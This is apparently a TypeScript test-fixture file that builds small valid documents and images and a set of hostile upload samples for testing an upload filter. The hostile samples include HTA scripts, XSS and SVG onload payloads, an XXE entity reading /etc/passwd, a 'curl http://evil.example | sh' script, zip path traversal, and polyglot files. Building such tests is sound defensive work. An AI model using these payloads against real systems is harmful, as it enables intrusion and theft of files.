import { crc32 } from 'node:zlib';
import { entry, zip as zipOf } from './xlsx-files.js';

/**
 * Small but well-formed files of every accepted type, and the hostile uploads of issue 8 (finding 3),
 * for the detection rules' spec and the upload suites.
 */

/** A PDF a reader opens: header at offset 0, `%%EOF` at the end. */
export function pdf(body = 'evidence'): Buffer {
  return Buffer.from(`%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[]/Count 0>> endobj\n% ${body}\ntrailer <</Root 1 0 R>>\n%%EOF\n`, 'latin1');
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([head, body, crc]);
}

/** A 1×1 PNG: signature, IHDR, IDAT, IEND; `extra` bytes go into an ancillary text chunk (to reach a size). */
export function png(extra = 0): Buffer {
  const ihdr = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
  const chunks = [pngChunk('IHDR', ihdr)];
  if (extra > 0) chunks.push(pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), Buffer.alloc(extra, 0x61)])));
  chunks.push(pngChunk('IDAT', Buffer.from([0x78, 0x9c, 0x63, 0x60, 0x00, 0x00, 0x00, 0x02, 0x00, 0x01])), pngChunk('IEND', Buffer.alloc(0)));
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), ...chunks]);
}

/** The start of a JFIF JPEG and its end (enough for content detection). */
export function jpeg(): Buffer {
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0', 'latin1'), Buffer.from([1, 1, 0, 0, 1, 0, 1, 0, 0]),
    Buffer.alloc(64, 0x11), Buffer.from([0xff, 0xd9]),
  ]);
}

/** A RIFF/WEBP container whose size field covers the file exactly. */
export function webp(): Buffer {
  const payload = Buffer.concat([Buffer.from('WEBPVP8 ', 'latin1'), Buffer.from([10, 0, 0, 0]), Buffer.alloc(10, 0x2a)]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(payload.length);
  return Buffer.concat([Buffer.from('RIFF', 'latin1'), size, payload]);
}

/** A zip of stored (uncompressed) entries, with a correct central directory and end record. */
export function zip(entries: { name: string; data?: string | Buffer }[], comment = ''): Buffer {
  return zipOf(entries.map((e) => entry(e.name, e.data ?? '', { stored: true })), comment);
}

const CONTENT_TYPES = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';

/** A Word document's package: content types, relationships and the main part. */
export function docx(extra: { name: string; data?: string }[] = []): Buffer {
  return zip([
    { name: '[Content_Types].xml', data: CONTENT_TYPES },
    { name: '_rels/.rels', data: '<Relationships/>' },
    { name: 'word/document.xml', data: '<w:document><w:body><w:p/></w:body></w:document>' },
    ...extra,
  ]);
}

/** An Excel workbook's package. */
export function xlsx(extra: { name: string; data?: string }[] = []): Buffer {
  return zip([
    { name: '[Content_Types].xml', data: CONTENT_TYPES },
    { name: '_rels/.rels', data: '<Relationships/>' },
    { name: 'xl/workbook.xml', data: '<workbook/>' },
    { name: 'xl/worksheets/sheet1.xml', data: '<worksheet/>' },
    ...extra,
  ]);
}

export const TEXT = Buffer.from('整改说明：已于当日处理完毕。\n');

/** The hostile uploads the probe of issue 8 got through, and their relatives. */
export const HOSTILE = {
  hta: Buffer.from('<HTA:APPLICATION ID="x" WINDOWSTATE="minimize"><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>'),
  htaAfterText: Buffer.from('请查看附件说明\r\n<hta:application id=x><script>new ActiveXObject("WScript.Shell").Run("calc")</script>'),
  html: Buffer.from('<!DOCTYPE html><html><body><script>fetch("/admin/users")</script></body></html>'),
  pdfHtml: Buffer.from('%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n'),
  pdfSvg: Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n%%EOF\n', 'latin1'),
  pdfNoEof: Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n'),
  pdfLate: Buffer.concat([Buffer.from('<html>'), Buffer.from('%PDF-1.4\n%%EOF\n')]),
  svg: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  svgWithBom: Buffer.from('\uFEFF  \n<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  xml: Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
  shellScript: Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'),
  exe: Buffer.concat([Buffer.from('MZ'), Buffer.from([0x90, 0x00, 0x03, 0x00]), Buffer.alloc(64)]),
  /** Mentions `word/` and `xl/` in its first bytes but is no office document. */
  zipMentioningOffice: zip([{ name: 'word/evil.exe', data: 'MZ' }, { name: 'readme.txt', data: 'xl/ word/' }]),
  /** Names the parts only inside an entry's data, not in the directory. */
  zipNamingPartsInData: zip([{ name: 'payload.html', data: '[Content_Types].xml word/document.xml xl/workbook.xml <script>' }]),
  docxWithMacros: docx([{ name: 'word/vbaProject.bin', data: 'macro' }]),
  docxWithExecutable: docx([{ name: 'word/embeddings/run.exe', data: 'MZ' }]),
  docxPathEscape: docx([{ name: '../../evil.txt', data: 'x' }]),
  wordAndExcel: zip([{ name: '[Content_Types].xml', data: CONTENT_TYPES }, { name: 'word/document.xml' }, { name: 'xl/workbook.xml' }]),
  noContentTypes: zip([{ name: 'word/document.xml', data: '<w:document/>' }]),
  duplicateParts: zip([{ name: '[Content_Types].xml', data: CONTENT_TYPES }, { name: 'word/document.xml' }, { name: 'WORD/document.xml' }]),
  pngSignatureOnly: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(32, 1)]),
  pngWithHtmlAppended: Buffer.concat([png(), Buffer.from('<html><script>alert(1)</script></html>')]),
  webpWithAppendix: Buffer.concat([webp(), Buffer.from('<script>alert(1)</script>')]),
};
